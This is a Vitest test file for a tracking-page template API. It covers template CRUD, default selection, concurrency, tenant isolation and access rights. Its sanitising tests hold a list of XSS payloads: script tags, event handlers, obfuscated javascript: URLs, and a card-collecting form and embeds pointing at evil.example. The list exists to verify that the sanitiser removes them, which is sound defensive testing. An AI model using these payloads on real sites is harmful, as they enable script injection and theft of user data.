import { describe, expect, it } from 'vitest';
import { and, eq } from 'drizzle-orm';
import { DEFAULT_TRACKING_TEMPLATE_NAME, TRACKING_PAGE_LIMITS, TRACKING_PAGE_MESSAGES, type TrackingTemplateListItem, type TrackingTemplateView } from '@trailpost/contracts';
import { trackingPageTemplates } from '../../db/schema/index.js';
import { NO_ACCESS_MESSAGE } from '../../platform/auth.js';
import { createSubUser, expectHiddenFromOtherTenants, messagesOf, signUp, type SignedIn } from '../../test/accounts.js';
import { useTestApp } from '../../test/harness.js';
import { DEFAULT_TRACKING_PAGE_BODY } from './default-template.js';

const t = useTestApp();

const list = async (who: SignedIn) => {
  const response = await t.app.inject({ method: 'GET', url: '/api/tracking_template/list', headers: who.headers });
  expect(response.statusCode, response.body).toBe(200);
  return response.json().data as TrackingTemplateListItem[];
};
const create = (who: SignedIn, payload: object) => t.app.inject({ method: 'POST', url: '/api/tracking_template', headers: who.headers, payload });
const createId = async (who: SignedIn, payload: object = { template_name: 'Summer', body: '<p>[Tracking Number]</p>' }) => {
  const response = await create(who, payload);
  expect(response.statusCode, response.body).toBe(200);
  return (response.json().data as TrackingTemplateView)._id;
};
const read = (who: SignedIn, id: string) => t.app.inject({ method: 'GET', url: `/api/tracking_template/${id}`, headers: who.headers });
const update = (who: SignedIn, id: string, payload: object) => t.app.inject({ method: 'PUT', url: `/api/tracking_template/${id}`, headers: who.headers, payload });
const remove = (who: SignedIn, id: string) => t.app.inject({ method: 'DELETE', url: `/api/tracking_template/${id}`, headers: who.headers });
const makeDefault = (who: SignedIn, id: string) => t.app.inject({ method: 'PUT', url: `/api/tracking_template/default/${id}`, headers: who.headers });

const tenantOf = (who: SignedIn) => who.session.user_details.tenant_id;
/** The stored default flags of an account, straight from the table. */
const defaultsOf = async (who: SignedIn) =>
  t.database.db
    .select({ id: trackingPageTemplates.id })
    .from(trackingPageTemplates)
    .where(and(eq(trackingPageTemplates.tenantId, tenantOf(who)), eq(trackingPageTemplates.isDefault, true)));
const countOf = async (who: SignedIn) => (await t.database.db.select().from(trackingPageTemplates).where(eq(trackingPageTemplates.tenantId, tenantOf(who)))).length;

const ISO = /^\d{4}-\d{2}-\d{2}T\d{2}:\d{2}:\d{2}\.\d{3}Z$/;
const UNKNOWN_ID = '00000000-0000-4000-8000-000000000000';

describe('the built-in default template', () => {
  it("is given to an account by its first list, once, as the default", async () => {
    const owner = await signUp(t.app);
    const [first, ...others] = await list(owner);
    expect(others).toEqual([]);
    expect(first).toEqual({ _id: expect.any(String), template_name: DEFAULT_TRACKING_TEMPLATE_NAME, is_default_template: 1, language: null, created: expect.stringMatching(ISO), modified: expect.stringMatching(ISO) });
    expect(first).not.toHaveProperty('body');
    expect((await read(owner, first!._id)).json().data.body).toBe(DEFAULT_TRACKING_PAGE_BODY);
    expect(await list(owner)).toEqual([first]);
  });

  it('is added once when two first lists arrive at the same time', async () => {
    const owner = await signUp(t.app);
    const [a, b] = await Promise.all([list(owner), list(owner)]);
    expect(a).toHaveLength(1);
    expect(b).toEqual(a);
    expect(await countOf(owner)).toBe(1);
    expect(await defaultsOf(owner)).toHaveLength(1);
  });
});

describe('tracking-page templates', () => {
  it("are created, read, changed and deleted with the specification's messages", async () => {
    const owner = await signUp(t.app);
    const [builtIn] = await list(owner);
    const created = await create(owner, { template_name: '  Summer sale  ', body: '<h1>[Company Name]</h1><p>[Tracking Number]</p>' });
    expect(created.statusCode).toBe(200);
    expect(created.json()).toEqual({
      meta: { code: 200, message: [TRACKING_PAGE_MESSAGES.created] },
      data: {
        _id: expect.any(String),
        template_name: 'Summer sale',
        body: '<h1>[Company Name]</h1><p>[Tracking Number]</p>',
        is_default_template: 0,
        language: null,
        created: expect.stringMatching(ISO),
        modified: expect.stringMatching(ISO),
      },
    });
    const id = created.json().data._id as string;
    expect((await read(owner, id)).json()).toMatchObject({ meta: { code: 200, message: ['Success'] }, data: { _id: id, template_name: 'Summer sale', is_default_template: 0 } });

    const changed = await update(owner, id, { template_name: 'Winter', body: '<p>[Tracking Status]</p>' });
    expect(changed.json()).toMatchObject({ meta: { code: 200, message: [TRACKING_PAGE_MESSAGES.updated] }, data: { _id: id, template_name: 'Winter', body: '<p>[Tracking Status]</p>', is_default_template: 0 } });
    expect((await read(owner, id)).json().data).toMatchObject({ template_name: 'Winter', body: '<p>[Tracking Status]</p>' });

    const deleted = await remove(owner, id);
    expect(deleted.json()).toEqual({ meta: { code: 200, message: [TRACKING_PAGE_MESSAGES.deleted] }, data: null });
    expect(await list(owner)).toEqual([builtIn]);
    const gone = await read(owner, id);
    expect(gone.statusCode).toBe(404);
    expect(gone.json()).toEqual({ meta: { code: 404, message: [TRACKING_PAGE_MESSAGES.notFound], error_code: 'not_found' }, data: null });
  });

  it('are listed default first, then newest first', async () => {
    const owner = await signUp(t.app);
    const [builtIn] = await list(owner);
    const older = await createId(owner, { template_name: 'Older', body: '' });
    const newer = await createId(owner, { template_name: 'Newer', body: '' });
    expect((await list(owner)).map((item) => item._id)).toEqual([builtIn!._id, newer, older]);
    await makeDefault(owner, older);
    expect((await list(owner)).map((item) => [item.template_name, item.is_default_template])).toEqual([
      ['Older', 1],
      ['Newer', 0],
      [DEFAULT_TRACKING_TEMPLATE_NAME, 0],
    ]);
  });

  it('accept an empty body, or none, and the longest name and body', async () => {
    const owner = await signUp(t.app);
    await list(owner);
    expect((await create(owner, { template_name: 'Empty', body: '' })).json().data.body).toBe('');
    expect((await create(owner, { template_name: 'No body' })).json().data.body).toBe('');
    const longest = await create(owner, { template_name: 'n'.repeat(TRACKING_PAGE_LIMITS.nameMax), body: 'b'.repeat(TRACKING_PAGE_LIMITS.bodyMax) });
    expect(longest.statusCode).toBe(200);
    expect(longest.json().data.body).toHaveLength(TRACKING_PAGE_LIMITS.bodyMax);
  });

  it.each([
    ['no name', { body: '<p>x</p>' }, TRACKING_PAGE_MESSAGES.nameRequired, 'template_name'],
    ['an empty name', { template_name: '', body: '<p>x</p>' }, TRACKING_PAGE_MESSAGES.nameRequired, 'template_name'],
    ['a blank name', { template_name: '   ', body: '<p>x</p>' }, TRACKING_PAGE_MESSAGES.nameRequired, 'template_name'],
    ['a null name', { template_name: null, body: '<p>x</p>' }, TRACKING_PAGE_MESSAGES.nameRequired, 'template_name'],
    ['a name over the limit', { template_name: 'n'.repeat(TRACKING_PAGE_LIMITS.nameMax + 1), body: '' }, TRACKING_PAGE_MESSAGES.nameTooLong, 'template_name'],
    ['a body over the limit', { template_name: 'Big', body: 'b'.repeat(TRACKING_PAGE_LIMITS.bodyMax + 1) }, TRACKING_PAGE_MESSAGES.bodyTooLong, 'body'],
  ])('refuse %s with its message, when added and when changed', async (_label, payload, message, field) => {
    const owner = await signUp(t.app);
    await list(owner);
    const refused = await create(owner, payload);
    expect(refused.statusCode).toBe(400);
    expect(refused.json()).toEqual({ meta: { code: 400, message: [message], error_code: 'validation_failed', fields: { [field]: message } }, data: null });
    expect(await countOf(owner)).toBe(1);

    const id = await createId(owner);
    const refusedChange = await update(owner, id, payload);
    expect(refusedChange.statusCode).toBe(400);
    expect(messagesOf(refusedChange)).toEqual([message]);
    expect((await read(owner, id)).json().data.template_name).toBe('Summer');
  });

  it('answer 404 for an id that is no template, and 400 for one that is no id', async () => {
    const owner = await signUp(t.app);
    for (const response of [await read(owner, UNKNOWN_ID), await update(owner, UNKNOWN_ID, { template_name: 'X', body: '' }), await remove(owner, UNKNOWN_ID), await makeDefault(owner, UNKNOWN_ID)]) {
      expect(response.statusCode).toBe(404);
      expect(response.json()).toEqual({ meta: { code: 404, message: [TRACKING_PAGE_MESSAGES.notFound], error_code: 'not_found' }, data: null });
    }
    const malformed = await read(owner, 'not-an-id');
    expect(malformed.statusCode).toBe(400);
    expect(messagesOf(malformed)).toEqual([TRACKING_PAGE_MESSAGES.notFound]);
  });
});

describe('sanitising on save', () => {
  const HOSTILE = [
    '<p class="lead" onclick="steal()">Hello [Customer Name]</p>',
    '<script>alert(1)</script>',
    '<img src="x.png" onerror="alert(2)" alt="Parcel">',
    '<a href="javascript:alert(3)">Track</a>',
    '<a href="JaVaScRiPt&colon;alert(4)">Track too</a>',
    '<form action="https://evil.example/collect" method="post"><input name="card"><button>Pay</button></form>',
    '<iframe src="https://evil.example/frame"></iframe>',
    '<object data="https://evil.example/x.swf"></object><embed src="https://evil.example/y">',
    '<div style="background:url(javascript:alert(5))">[Tracking Number]</div>',
    '<style>@import url(https://evil.example/x.css); .lead{color:#123456}</style>',
  ].join('\n');
  const REMOVED = [/<script/i, /alert/i, /onclick/i, /onerror/i, /javascript/i, /<form/i, /<input/i, /<button/i, /<iframe/i, /<object/i, /<embed/i, /@import/i, /evil\.example/i];

  const expectClean = (body: string) => {
    for (const pattern of REMOVED) expect(body).not.toMatch(pattern);
    expect(body).toContain('<p class="lead">Hello [Customer Name]</p>');
    expect(body).toContain('<img src="x.png" alt="Parcel" />');
    expect(body).toContain('<a>Track</a>');
    expect(body).toContain('[Tracking Number]');
    expect(body).toContain('.lead{color:#123456}');
  };

  it('removes script, event handlers, javascript: addresses, forms, frames and embeds, keeping the rest', async () => {
    const owner = await signUp(t.app);
    const created = await create(owner, { template_name: 'Hostile', body: HOSTILE });
    expect(created.statusCode).toBe(200);
    expectClean(created.json().data.body);
    expectClean((await read(owner, created.json().data._id)).json().data.body);
  });

  it('also when a template is changed', async () => {
    const owner = await signUp(t.app);
    const id = await createId(owner);
    const changed = await update(owner, id, { template_name: 'Hostile', body: HOSTILE });
    expectClean(changed.json().data.body);
    expectClean((await read(owner, id)).json().data.body);
  });
});

describe('the default template', () => {
  it('is the first template an account adds when it has none', async () => {
    const owner = await signUp(t.app);
    const first = await create(owner, { template_name: 'First', body: '<p>1</p>' });
    expect(first.json().data.is_default_template).toBe(1);
    const second = await create(owner, { template_name: 'Second', body: '<p>2</p>' });
    expect(second.json().data.is_default_template).toBe(0);
    // The list finds a default: no built-in one is added.
    expect((await list(owner)).map((item) => [item.template_name, item.is_default_template])).toEqual([
      ['First', 1],
      ['Second', 0],
    ]);
  });

  it('is one template even when the first two are added at the same time', async () => {
    const owner = await signUp(t.app);
    const responses = await Promise.all([create(owner, { template_name: 'A', body: '' }), create(owner, { template_name: 'B', body: '' })]);
    expect(responses.map((response) => response.statusCode)).toEqual([200, 200]);
    expect(responses.map((response) => response.json().data.is_default_template).sort()).toEqual([0, 1]);
    expect(await defaultsOf(owner)).toHaveLength(1);
  });

  it("moves with the star: the chosen one becomes default and the others stop being it", async () => {
    const owner = await signUp(t.app);
    const [builtIn] = await list(owner);
    const id = await createId(owner);
    const starred = await makeDefault(owner, id);
    expect(starred.json()).toMatchObject({ meta: { code: 200, message: [TRACKING_PAGE_MESSAGES.defaultUpdated] }, data: { _id: id, is_default_template: 1 } });
    expect(await defaultsOf(owner)).toEqual([{ id }]);
    expect((await read(owner, builtIn!._id)).json().data.is_default_template).toBe(0);
    // Starring the default again changes nothing.
    expect((await makeDefault(owner, id)).json().meta.message).toEqual([TRACKING_PAGE_MESSAGES.defaultUpdated]);
    expect(await defaultsOf(owner)).toEqual([{ id }]);
  });

  it('does not count as an edit: modified stays', async () => {
    const owner = await signUp(t.app);
    await list(owner);
    const created = (await create(owner, { template_name: 'Kept', body: '' })).json().data as TrackingTemplateView;
    expect((await makeDefault(owner, created._id)).json().data.modified).toBe(created.modified);
  });

  it('is one template when two are starred at the same time', async () => {
    const owner = await signUp(t.app);
    await list(owner);
    const a = await createId(owner);
    const b = await createId(owner);
    // Rounds of stars at once, the default changing hands while others wait: none fails, one default.
    for (let round = 0; round < 5; round += 1) {
      const responses = await Promise.all([makeDefault(owner, a), makeDefault(owner, b), makeDefault(owner, a), makeDefault(owner, b)]);
      expect(responses.map((response) => response.statusCode)).toEqual([200, 200, 200, 200]);
      const defaults = await defaultsOf(owner);
      expect(defaults).toHaveLength(1);
      expect([a, b]).toContain(defaults[0]!.id);
    }
  });

  it('cannot be deleted; the one it replaced can', async () => {
    const owner = await signUp(t.app);
    const [builtIn] = await list(owner);
    const refused = await remove(owner, builtIn!._id);
    expect(refused.statusCode).toBe(400);
    expect(refused.json()).toEqual({ meta: { code: 400, message: [TRACKING_PAGE_MESSAGES.defaultNotDeletable], error_code: 'validation_failed' }, data: null });
    expect((await read(owner, builtIn!._id)).statusCode).toBe(200);

    const id = await createId(owner);
    await makeDefault(owner, id);
    expect((await remove(owner, builtIn!._id)).statusCode).toBe(200);
    expect(messagesOf(await remove(owner, id))).toEqual([TRACKING_PAGE_MESSAGES.defaultNotDeletable]);
    expect(await list(owner)).toMatchObject([{ _id: id, is_default_template: 1 }]);
  });

  it("of one account is untouched by another's star", async () => {
    const owner = await signUp(t.app);
    const stranger = await signUp(t.app);
    const [strangersDefault] = await list(stranger);
    await list(owner);
    await makeDefault(owner, await createId(owner));
    expect(await defaultsOf(stranger)).toEqual([{ id: strangersDefault!._id }]);
  });
});

describe('tenants and access', () => {
  it("hide an account's templates from other tenants", async () => {
    const owner = await signUp(t.app);
    await list(owner);
    const id = await createId(owner);
    await expectHiddenFromOtherTenants(t.app, { method: 'GET', url: `/api/tracking_template/${id}` });
    await expectHiddenFromOtherTenants(t.app, { method: 'PUT', url: `/api/tracking_template/${id}`, payload: { template_name: 'Taken', body: '' } });
    await expectHiddenFromOtherTenants(t.app, { method: 'DELETE', url: `/api/tracking_template/${id}` });
    await expectHiddenFromOtherTenants(t.app, { method: 'PUT', url: `/api/tracking_template/default/${id}` });
    const stranger = await signUp(t.app);
    expect((await list(stranger)).map((item) => item._id)).not.toContain(id);
    expect((await read(owner, id)).json().data).toMatchObject({ template_name: 'Summer', is_default_template: 0 });
    expect(await countOf(owner)).toBe(2);
  });

  it('need the settings access: a sub-user without it gets 403, one with it gets through', async () => {
    const owner = await signUp(t.app);
    await list(owner);
    const id = await createId(owner);
    const packer = await createSubUser(t.app, t.database, owner, ['dashboard', 'tracking']);
    const calls = [
      { method: 'GET', url: '/api/tracking_template/list' },
      { method: 'POST', url: '/api/tracking_template', payload: { template_name: 'Mine', body: '' } },
      { method: 'POST', url: '/api/tracking_template/preview', payload: { body: '<p>[Tracking Number]</p>' } },
      { method: 'GET', url: `/api/tracking_template/${id}` },
      { method: 'PUT', url: `/api/tracking_template/${id}`, payload: { template_name: 'Mine', body: '' } },
      { method: 'DELETE', url: `/api/tracking_template/${id}` },
      { method: 'PUT', url: `/api/tracking_template/default/${id}` },
    ] as const;
    for (const call of calls) {
      const refused = await t.app.inject({ ...call, headers: packer.headers });
      expect(refused.statusCode, `${call.method} ${call.url}`).toBe(403);
      expect(refused.json()).toEqual({ meta: { code: 403, message: [NO_ACCESS_MESSAGE], error_code: 'forbidden' }, data: null });
    }
    expect(await countOf(owner)).toBe(2);

    const admin = await createSubUser(t.app, t.database, owner, ['settings']);
    expect((await list(admin)).map((item) => item._id)).toContain(id);
    expect((await create(admin, { template_name: 'By a sub-user', body: '' })).statusCode).toBe(200);
    expect((await makeDefault(admin, id)).statusCode).toBe(200);
  });
});
